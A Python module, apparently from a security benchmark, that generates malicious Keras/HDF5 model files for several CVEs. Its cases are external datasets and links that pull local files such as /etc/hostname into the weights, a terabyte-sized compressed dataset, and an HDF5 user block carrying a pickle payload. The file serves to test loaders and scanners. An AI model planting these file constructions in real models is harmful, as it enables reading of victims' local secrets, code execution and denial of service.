"""Attacks by how a file stores its weights."""

from __future__ import annotations

import io
from collections.abc import Callable
from pathlib import Path

import h5py

from benchmarks.attack_files.attack import Attack, Write, pickled
from benchmarks.attack_files.networks import WEIGHTS, Members, archive, saved

_ELSEWHERE = "/etc/secret.h5"


def _kernel(change: Callable[[h5py.File, str], object]) -> Write:
    """A ``.keras`` archive with another dataset for the kernel."""

    def edit(members: Members) -> None:
        content = io.BytesIO(members[WEIGHTS])
        with h5py.File(content, "r+") as file:
            names: list[str] = []
            file.visititems(
                lambda name, x: (
                    names.append(name) if isinstance(x, h5py.Dataset) else None
                )
            )
            del file[names[0]]
            change(file, names[0])
        members[WEIGHTS] = content.getvalue()

    return archive(edit)


def _external(file: h5py.File, name: str) -> None:
    file.create_dataset(name, (64, 5), "f4", external=[("/etc/hostname", 0, 1280)])


def _virtual(file: h5py.File, name: str) -> None:
    layout = h5py.VirtualLayout((360, 5), "f4")
    layout[:] = h5py.VirtualSource(_ELSEWHERE, "kernel", (360, 5))
    file.create_virtual_dataset(name, layout)


def _linked(file: h5py.File, name: str) -> None:
    file[name] = h5py.ExternalLink(_ELSEWHERE, "kernel")


def _huge(file: h5py.File, name: str) -> None:
    file.create_dataset(name, (1 << 40,), "f4", chunks=(1 << 20,), compression="gzip")


def _optimiser(folder: Path) -> Path:
    """An honest network whose optimiser's state lies elsewhere."""
    path = saved(".h5")(folder)
    with h5py.File(path, "r+") as file:
        file["optimizer_weights"] = h5py.ExternalLink(_ELSEWHERE, "/")
    return path


def _user_block(folder: Path) -> Path:
    """HDF5 with a user block in front that is a pickle."""
    path = saved(".h5")(folder)
    block = pickled().ljust(512, b"\0")
    with (
        h5py.File(path) as old,
        h5py.File(folder / "new.h5", "w", userblock_size=512) as new,
    ):
        for name in old:
            old.copy(name, new)
        for name, value in old.attrs.items():
            new.attrs[name] = value
    content = (folder / "new.h5").read_bytes()
    (folder / "new.h5").unlink()
    path.write_bytes(block + content[512:])
    return path


STORED = (
    Attack("CVE-2026-1669", "weights in any file of the machine", _kernel(_external)),
    Attack("CVE-2026-12480", "weights out of another HDF5 file, a virtual dataset",
           _kernel(_virtual)),
    Attack("CVE-2026-9335", "weights out of another HDF5 file, a link", _kernel(_linked)),
    Attack("CVE-2026-0897, CVE-2026-12570", "weights that declare terabytes", _kernel(_huge)),
    Attack("optimizer_weights", "the state of the optimiser out of another file", _optimiser,
           read=True),
    Attack("user block", "HDF5 behind a user block that is a pickle", _user_block),
)  # fmt: skip
